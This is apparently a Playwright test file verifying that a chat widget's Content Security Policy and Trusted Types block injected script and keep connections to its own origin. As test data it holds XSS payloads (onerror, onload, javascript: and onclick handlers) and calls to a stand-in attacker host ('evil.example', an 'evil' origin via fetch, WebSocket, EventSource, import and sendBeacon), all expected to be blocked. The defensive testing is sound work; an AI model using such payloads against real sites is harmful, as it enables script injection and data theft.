/** No script of a message, a name, a theme, a file or a URL runs: the text stays text, and if it did not, the policy would hold. */
import type { Page } from '@playwright/test';
import { expect, openChat, test } from './world';

test('the widget’s document comes with the headers of the design, on 200 and on 304', async ({ world }) => {
  const { server, web } = world;
  const path = `/widget/?site=${world.site}`;
  const first = await server.fetch(path);
  const again = await server.fetch(path, { headers: { 'if-none-match': first.headers.get('etag') ?? '' } });

  for (const { headers } of [first, again]) {
    expect(headers.get('content-security-policy')?.split('; ').sort()).toEqual(
      [
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        'img-src http: https: data: blob:',
        'media-src http: https: blob:',
        `connect-src 'self' ${server.origin.replace('http', 'ws')}`,
        `frame-src ${web.origin('page')} ${web.origin('other')}`,
        `frame-ancestors ${web.origin('host')}`,
        "form-action 'none'",
        "base-uri 'none'",
        "require-trusted-types-for 'script'",
        'trusted-types dompurify',
      ].sort(),
    );
    expect(headers.get('origin-agent-cluster')).toBe('?1');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('permissions-policy')).toContain('unload=()');
    expect(headers.get('cache-control')).toBe('no-cache');
    expect(headers.get('set-cookie')).toBe(null);
    expect(headers.get('access-control-allow-origin')).toBe(null);
  }
  expect([first.status, again.status]).toEqual([200, 304]);
  expect(first.headers.get('content-type')).toBe('text/html; charset=utf-8');
  expect(await first.text()).not.toMatch(/<script(?![^>]* (?:src=|type="application\/json"))|\son\w+=|style=/i);
});

/** Ways to a script that need no string sink: markup put in place by the developer tools, as an injection would. */
async function inject(page: Page, frameUrl: RegExp) {
  const frame = page.frames().find((one) => frameUrl.test(one.url()));
  if (!frame) throw new Error('there is no such frame');
  const session = await page.context().newCDPSession(frame === page.mainFrame() ? page : frame);
  await session.send('DOM.enable');
  const { root } = await session.send('DOM.getDocument', { depth: -1 });
  const { nodeId } = await session.send('DOM.querySelector', { nodeId: root.nodeId, selector: 'body' });
  await session.send('DOM.setOuterHTML', {
    nodeId,
    outerHTML: `<body>
      <img src="data:," onerror="window.__x = 'handler'"><svg onload="window.__x = 'svg'"></svg>
      <a id="link" href="javascript:void(window.__x = 'link')">x</a>
      <button id="button" onclick="window.__x = 'button'">x</button></body>`,
  });
  await frame.evaluate(() => {
    const script = document.createElement('script');
    script.append('window.__x = "inline"');
    document.body.append(script);
    const style = document.createElement('style');
    style.append('body { --x: 1 }');
    document.head.append(style);
    (document.getElementById('link') as HTMLElement).click();
    (document.getElementById('button') as HTMLElement).click();
    // The broken picture's handler has had its turn once this one's has.
    return new Promise((resolve) => {
      const image = new Image();
      image.onerror = resolve;
      image.src = 'data:,';
    });
  });
  return frame.evaluate(() => [
    (window as unknown as { __x?: string }).__x,
    getComputedStyle(document.body).getPropertyValue('--x'),
  ]);
}

test('markup with scripts that gets into the document by whatever way doesn’t run', async ({ page, world }) => {
  await openChat(page, world.hostPage(await world.talk()));

  expect(await inject(page, /^http:\/\/chat\./)).toEqual([undefined, '']);

  await page.goto(world.web.put('host', '/lax', '<h1>No policy</h1>'));
  expect(await inject(page, /\/lax$/), 'without a policy it runs: the test could fail').toEqual([
    expect.stringMatching(/./),
    '1',
  ]);
});

test('a string in a sink of the widget’s document throws: Trusted Types are on', async ({ page, world }) => {
  const chat = await openChat(page, world.hostPage(await world.talk()));
  const sinks = {
    innerHTML: 'document.body.innerHTML = "<b>x"',
    outerHTML: 'document.body.firstElementChild.outerHTML = "<b>x"',
    insertAdjacentHTML: 'document.body.insertAdjacentHTML("beforeend", "<b>x")',
    'document.write': 'document.write("x")',
    'script.src': 'document.createElement("script").src = "https://evil.example/x.js"',
    'script.text': 'document.createElement("script").text = "x"',
    'script.innerText': 'document.createElement("script").innerText = "x"',
    srcdoc: 'document.createElement("iframe").srcdoc = "x"',
    eval: 'eval("1")',
    Function: 'new Function("1")()',
    setTimeout: 'setTimeout("1")',
    DOMParser: 'new DOMParser().parseFromString("x", "text/html")',
    fragment: 'document.createRange().createContextualFragment("x")',
    onclick: 'document.body.setAttribute("onclick", "x")',
    setHTMLUnsafe: 'document.createElement("div").setHTMLUnsafe("x")',
    Worker: 'new Worker("/x.js")',
    'a policy of one’s own': 'trustedTypes.createPolicy("evil", {})',
    'the default policy': 'trustedTypes.createPolicy("default", {})',
  };
  const results: Record<string, string> = {};
  for (const [name, code] of Object.entries(sinks)) {
    results[name] = await chat.widget.evaluate(
      // In a task of its own: what the developer tools run themselves may evaluate strings.
      `new Promise((done) => setTimeout(() => { try { ${code}; done('taken') } catch (error) { done(error.name) } }))`,
    );
  }

  expect(Object.entries(results).filter(([, result]) => !/TypeError|EvalError/.test(result))).toEqual([]);
  const lax = await page.context().newPage();
  await lax.goto(world.web.put('host', '/lax', '<p>x</p>'));
  expect(await lax.evaluate('(() => { document.body.innerHTML = "<b>x"; return document.body.innerHTML })()')).toBe(
    '<b>x</b>',
  );
});

test('connections go to the chat’s own origin only', async ({ page, world }) => {
  const chat = await openChat(page, world.hostPage(await world.talk()));
  const before = world.web.asked.length;

  const results = await chat.widget.evaluate(async (evil) => {
    const failed = (work: Promise<unknown>) =>
      work.then(
        () => 'went',
        () => 'stopped',
      );
    return Promise.all([
      failed(fetch(`${evil}/fetch`, { mode: 'no-cors' })),
      failed(
        new Promise((resolve, reject) =>
          Object.assign(new WebSocket(evil.replace('http', 'ws')), { onopen: resolve, onerror: reject }),
        ),
      ),
      failed(
        new Promise((resolve, reject) =>
          Object.assign(new EventSource(`${evil}/events`), { onopen: resolve, onerror: reject }),
        ),
      ),
      failed(import(`${evil}/module.js`)),
      navigator.sendBeacon(`${evil}/beacon`, 'x') ? 'queued' : 'stopped',
    ]);
  }, world.web.origin('evil'));

  // A beacon is taken and dropped: what counts is that nobody was asked.
  expect(results.slice(0, 4)).toEqual(['stopped', 'stopped', 'stopped', 'stopped']);
  // But the bot, which is told of what the customer reads.
  expect(world.web.asked.slice(before).filter(({ url }) => !url.endsWith('/hook'))).toEqual([]);
});
